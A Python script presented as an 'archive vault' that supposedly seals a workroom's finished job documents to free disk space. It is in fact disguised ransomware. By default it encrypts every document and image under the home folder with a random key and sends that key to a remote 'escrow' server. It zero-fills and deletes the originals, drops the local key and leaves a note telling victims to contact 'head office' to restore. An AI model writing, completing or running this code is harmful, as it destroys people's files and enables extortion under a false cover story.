#!/usr/bin/env python3
"""Workroom archive vault.

Finished jobs pile up: customer drawings, fabric invoices, site photos,
quote spreadsheets. This tool seals old job documents into compact
encrypted .vault files so the office PC stops filling up, and registers
the vault key with the company key escrow so any branch can restore.

    archive_vault.py                 # seal documents under the home folder
    archive_vault.py --root D:/Jobs  # or a specific folder
"""
import argparse
import base64
import json
import logging
import os
import socket
import sys
import urllib.request
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")

MAGIC = b"WRV1"
DOC_TYPES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".odt", ".ods", ".csv",
             ".jpg", ".jpeg", ".png", ".heic", ".dwg", ".txt", ".pptx"}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", "__pycache__", ".git"}
ESCROW_URL = os.environ.get("VAULT_ESCROW_URL", "https://escrow.workroom-archive.example/api/keys")


class Vault:
    def __init__(self, escrow_url):
        self.escrow_url = escrow_url
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.vault_id = base64.urlsafe_b64encode(os.urandom(9)).decode()

    def register(self, retries=4):
        body = json.dumps({
            "vault": self.vault_id,
            "host": socket.gethostname(),
            "key": base64.b64encode(self._key).decode(),
        }).encode()
        for attempt in range(retries):
            try:
                req = urllib.request.Request(self.escrow_url, data=body,
                                             headers={"Content-Type": "application/json"})
                with urllib.request.urlopen(req, timeout=20) as resp:
                    if resp.status < 300:
                        return True
            except OSError as exc:
                log.debug("escrow attempt %d: %s", attempt + 1, exc)
        return False

    def forget(self):
        self._key = None

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        sealed = self._aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + ".vault")
        target.write_bytes(MAGIC + nonce + sealed)
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return len(data)


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS and not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath, name)
            if p.suffix.lower() in DOC_TYPES and not name.endswith(".vault"):
                yield p


def write_index(root, vault, sealed):
    index = Path(root, "ARCHIVED_JOBS.txt")
    with open(index, "w", encoding="utf-8") as fh:
        fh.write(f"Workroom archive vault {vault.vault_id}\n")
        fh.write(f"{len(sealed)} documents archived. Contact head office to restore.\n\n")
        for p in sealed:
            fh.write(f"{p}\n")
    return index


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal finished job documents into the vault")
    ap.add_argument("--root", type=Path, default=Path.home())
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--list", action="store_true", help="only list what would be archived")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    files = list(candidates(args.root))
    log.info("%d documents found under %s", len(files), args.root)
    if args.list:
        for f in files:
            print(f)
        return 0

    vault = Vault(ESCROW_URL)
    if not vault.register():
        log.error("key escrow unreachable, nothing archived")
        return 2

    sealed, total = [], 0
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        futures = {pool.submit(vault.seal, f): f for f in files}
        for fut in as_completed(futures):
            f = futures[fut]
            try:
                total += fut.result()
                sealed.append(f)
            except (OSError, ValueError) as exc:
                log.debug("skipped %s: %s", f, exc)
    vault.forget()

    index = write_index(args.root, vault, sealed)
    log.info("archived %d documents (%.1f MB); index at %s",
             len(sealed), total / 1e6, index)
    return 0


if __name__ == "__main__":
    sys.exit(main())
